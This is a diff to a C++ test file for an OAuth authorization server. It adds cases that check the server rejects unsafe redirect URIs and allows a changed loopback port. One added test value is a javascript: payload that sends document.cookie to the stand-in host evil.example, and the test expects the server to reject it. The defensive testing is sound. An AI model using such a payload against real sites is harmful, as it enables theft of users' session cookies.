@@ -537,8 +537,16 @@ void tst_AuthorizationServer::registrationRejects_data()
         << json << QByteArray(R"({"redirect_uris":["http://app.example/cb"]})") << 400 << badUri;
     QTest::newRow("redirect with a fragment")
         << json << QByteArray(R"({"redirect_uris":["https://app.example/cb#x"]})") << 400 << badUri;
-    QTest::newRow("custom scheme redirect")
-        << json << QByteArray(R"({"redirect_uris":["myapp://callback"]})") << 400 << badUri;
+    QTest::newRow("javascript redirect")
+        << json
+        << QByteArray(R"({"redirect_uris":["javascript:location='//evil.example/'+document.cookie"]})") << 400
+        << badUri;
+    QTest::newRow("data redirect") << json << QByteArray(R"({"redirect_uris":["data:text/html,<b>x</b>"]})")
+                                   << 400 << badUri;
+    QTest::newRow("file redirect") << json << QByteArray(R"({"redirect_uris":["file:///tmp/cb"]})") << 400
+                                   << badUri;
+    QTest::newRow("redirect with user info")
+        << json << QByteArray(R"({"redirect_uris":["https://me@app.example/cb"]})") << 400 << badUri;
     QTest::newRow("relative redirect")
         << json << QByteArray(R"({"redirect_uris":["/callback"]})") << 400 << badUri;
     QByteArray many = R"({"redirect_uris":[)";
@@ -735,8 +743,10 @@ void tst_AuthorizationServer::authorizeRejects_data()
         << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45999/other")} << 400 << QString();
     QTest::newRow("redirect URI with a trailing slash")
         << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45999/callback/")} << 400 << QString();
-    QTest::newRow("redirect URI on another port")
-        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/callback")} << 400 << QString();
+    QTest::newRow("redirect URI on localhost instead of 127.0.0.1")
+        << QStringList{QStringLiteral("redirect_uri=http://localhost:45999/callback")} << 400 << QString();
+    QTest::newRow("redirect URI on another loopback port, another path")
+        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/other")} << 400 << QString();
     QTest::newRow("redirect URI missing") << QStringList{QStringLiteral("-redirect_uri")} << 400 << QString();
     QTest::newRow("PKCE missing") << QStringList{QStringLiteral("-code_challenge"),
                                                  QStringLiteral("-code_challenge_method")}
@@ -756,6 +766,9 @@ void tst_AuthorizationServer::authorizeRejects_data()
                                    << QStringLiteral("invalid_target");
     QTest::newRow("response_type token") << QStringList{QStringLiteral("response_type=token")} << 0
                                          << QStringLiteral("unsupported_response_type");
+    // RFC 8252 §7.3: a loopback redirect's port is chosen at request time.
+    QTest::newRow("accepted: redirect URI on another loopback port")
+        << QStringList{QStringLiteral("redirect_uri=http://127.0.0.1:45998/callback")} << 200 << QString();
     QTest::newRow("unknown scope") << QStringList{QStringLiteral("scope=admin")} << 0
                                    << QStringLiteral("invalid_scope");
     QTest::newRow("accepted: resource with upper-case scheme and a trailing slash")
